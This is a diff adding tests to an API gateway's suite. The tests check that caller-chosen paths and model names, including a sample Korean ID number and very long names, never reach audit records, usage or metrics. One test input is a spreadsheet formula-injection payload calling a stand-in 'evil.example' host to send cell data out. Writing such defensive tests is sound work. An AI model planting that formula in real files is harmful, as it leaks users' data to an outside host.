@@ -116,6 +116,64 @@ describe('unauthenticated requests', () => {
   });
 });
 
+describe('strings a caller chooses, in the trail, usage and metrics', () => {
+  const RRN = '900101-1234568';
+
+  it('keyless requests to ever new paths still add one record per route and code, never the path', async () => {
+    const server = await start();
+    await createApiKey(server.store.db, 'bank');
+    const before = records(server).length;
+    for (let i = 0; i < 300; i++) {
+      const url = [
+        `/v1/x${i}`,
+        `/api/collections/c${i}/documents/${RRN}-${i}.hwp`,
+        `/v1/models/${i}?q=${RRN}`,
+      ][i % 3];
+      expect((await server.app.inject({ method: 'GET', url })).statusCode).toBe(401);
+    }
+    await server.platform.unauthenticated.flush();
+    const written = records(server).slice(before);
+    // One record per route pattern (three here) however many paths: it was one per path.
+    expect(written.length).toBeLessThanOrEqual(3);
+    expect(written.reduce((n, r) => n + (r.count ?? 0), 0)).toBe(300);
+    expect(JSON.stringify(written).includes('1234568')).toBe(false);
+  });
+
+  it('a model name that is not configured reaches neither the trail, usage nor metrics', async () => {
+    const { server, upstream } = await serverWithUpstream('domestic');
+    try {
+      await createTenant(server.store.db, 'bank');
+      const { key } = await createApiKey(server.store.db, 'bank');
+      const ask = (model: string) =>
+        server.app.inject({
+          method: 'POST',
+          url: '/v1/chat/completions',
+          headers: { authorization: `Bearer ${key}` },
+          payload: { model, messages: [{ role: 'user', content: '안녕하세요' }] },
+        });
+      const names = [`=HYPERLINK("http://evil.example/?"&A1,"x")`, `고객 ${RRN}`, 'm'.repeat(100_000)];
+      for (let i = 0; i < 200; i++) names.push(`model-${i}`);
+      for (const name of names) expect((await ask(name)).statusCode).toBe(404);
+      expect((await ask('abroad')).statusCode).toBe(200);
+      const trail = JSON.stringify(records(server));
+      expect(trail.includes('1234568')).toBe(false);
+      expect(trail.includes('HYPERLINK')).toBe(false);
+      expect(trail.includes('model-7')).toBe(false);
+      expect(trail.length).toBeLessThan(200_000); // the 100,000-character name is not kept
+      const usage = sqliteOf(server.store)
+        .prepare<[], { model: string }>('SELECT DISTINCT model FROM usage')
+        .all();
+      expect(usage.map((u) => u.model).sort()).toEqual(['abroad']);
+      const metrics = await server.platform.metrics.registry.metrics();
+      expect(metrics.includes('1234568')).toBe(false);
+      expect(metrics.includes('model-7')).toBe(false);
+      expect(metrics.length).toBeLessThan(50_000); // one series per configured model, not per name
+    } finally {
+      await upstream.close();
+    }
+  });
+});
+
 describe('bootstrap and sessions', () => {
   it('opens keyless loopback access only until the first key has ever existed: revoking it does not reopen it', async () => {
     const server = await start();
